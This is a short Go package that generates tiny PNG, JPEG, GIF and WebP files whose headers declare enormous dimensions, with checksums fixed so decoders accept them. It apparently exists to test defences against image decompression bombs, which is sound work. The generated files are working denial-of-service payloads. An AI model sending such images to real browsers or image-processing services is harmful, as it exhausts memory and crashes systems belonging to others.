// Package hugeimage makes tiny images that declare huge dimensions, as an attacker sends them
// to make a browser decode gigabytes: each is a few dozen bytes whose header claims w×h.
package hugeimage

import (
	"bytes"
	"encoding/binary"
	"hash/crc32"
	"image"
	"image/jpeg"
	"image/png"
)

// PNG returns a valid 1×1 PNG whose IHDR says w×h (with a correct checksum, so decoders
// believe it).
func PNG(w, h int) []byte {
	var buf bytes.Buffer
	if err := png.Encode(&buf, image.NewGray(image.Rect(0, 0, 1, 1))); err != nil {
		panic(err) // encoding a 1×1 image into memory does not fail
	}
	b := buf.Bytes()
	// Signature (8), IHDR length (4), "IHDR" (4), width, height, ..., CRC over type and data.
	binary.BigEndian.PutUint32(b[16:], uint32(w))
	binary.BigEndian.PutUint32(b[20:], uint32(h))
	binary.BigEndian.PutUint32(b[29:], crc32.ChecksumIEEE(b[12:29]))
	return b
}

// JPEG returns a valid 1×1 JPEG whose frame header (SOF0) says w×h, at most 65535 a side.
func JPEG(w, h int) []byte {
	var buf bytes.Buffer
	if err := jpeg.Encode(&buf, image.NewGray(image.Rect(0, 0, 1, 1)), nil); err != nil {
		panic(err)
	}
	b := buf.Bytes()
	i := bytes.Index(b, []byte{0xff, 0xc0})
	// Marker (2), length (2), precision (1), height (2), width (2).
	binary.BigEndian.PutUint16(b[i+5:], uint16(h))
	binary.BigEndian.PutUint16(b[i+7:], uint16(w))
	return b
}

// GIF returns a 1×1 GIF whose logical screen says w×h, at most 65535 a side.
func GIF(w, h int) []byte { return gif(w, h, 1, 1) }

// GIFFrame returns a GIF with a 1×1 logical screen whose first frame says w×h: browsers
// enlarge the screen to it.
func GIFFrame(w, h int) []byte { return gif(1, 1, w, h) }

func gif(sw, sh, fw, fh int) []byte {
	b := []byte("GIF89a")
	b = binary.LittleEndian.AppendUint16(b, uint16(sw))
	b = binary.LittleEndian.AppendUint16(b, uint16(sh))
	b = append(b, 0x80, 0, 0, 0, 0, 0, 0xff, 0xff, 0xff) // a global colour table of two
	b = append(b, 0x2c, 0, 0, 0, 0)                      // image descriptor at 0,0
	b = binary.LittleEndian.AppendUint16(b, uint16(fw))
	b = binary.LittleEndian.AppendUint16(b, uint16(fh))
	return append(b, 0, 0x02, 0x02, 0x44, 0x01, 0x00, 0x3b) // one pixel of LZW data, trailer
}

// WebP returns the header of an extended WebP (VP8X) whose canvas is w×h.
func WebP(w, h int) []byte {
	b := []byte("RIFF\x00\x00\x00\x00WEBPVP8X\x0a\x00\x00\x00\x00\x00\x00\x00")
	b = append(b, byte(w-1), byte((w-1)>>8), byte((w-1)>>16), byte(h-1), byte((h-1)>>8), byte((h-1)>>16))
	binary.LittleEndian.PutUint32(b[4:], uint32(len(b)-8))
	return b
}
